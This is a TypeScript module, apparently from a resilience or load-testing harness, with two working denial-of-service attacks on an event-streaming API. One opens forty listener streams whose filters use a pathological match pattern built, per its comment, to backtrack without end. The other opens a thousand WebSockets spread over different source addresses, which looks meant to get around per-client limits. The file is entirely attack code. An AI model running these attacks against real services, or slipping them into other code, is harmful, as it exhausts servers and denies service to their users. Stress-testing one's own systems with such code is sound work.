import {WebSocket} from 'ws'
import {holdUntilAborted, pickClient, type Attack} from '../attack.ts'

/** Forty streams of events whose filters, all different, backtrack for ever at each change. */
export const slowListeners: Attack = async (target, signal) => {
  const path = '/lake/v2025-02-19/data/listen/production'
  const filterOf = (n: number) => ({
    query: `*[_type != "none ${n}" && $t match $p]`,
    $t: JSON.stringify('a'.repeat(900)),
    $p: JSON.stringify('*a*a*a*a*a*b'),
  })
  const opened = await Promise.all(
    Array.from({length: 40}, async (_, n) => {
      const stream = await pickClient(target, n).open(
        `${path}?${new URLSearchParams(filterOf(n)).toString()}`,
      )
      stream?.resume()
      return stream
    }),
  )
  await holdUntilAborted(signal, () => {
    for (const stream of opened) stream?.destroy()
  })
}

/** A thousand sockets of presence. */
export const manySockets: Attack = async (target, signal) => {
  const sockets = Array.from({length: 1000}, (_, n) => {
    const {origin, address} = pickClient(target, n)
    const url = `${origin.replace('http', 'ws')}/lake/v1/socket/production`
    return new WebSocket(url, {localAddress: address}).on('error', () => {})
  })
  await holdUntilAborted(signal, () => {
    for (const socket of sockets) socket.terminate()
  })
}
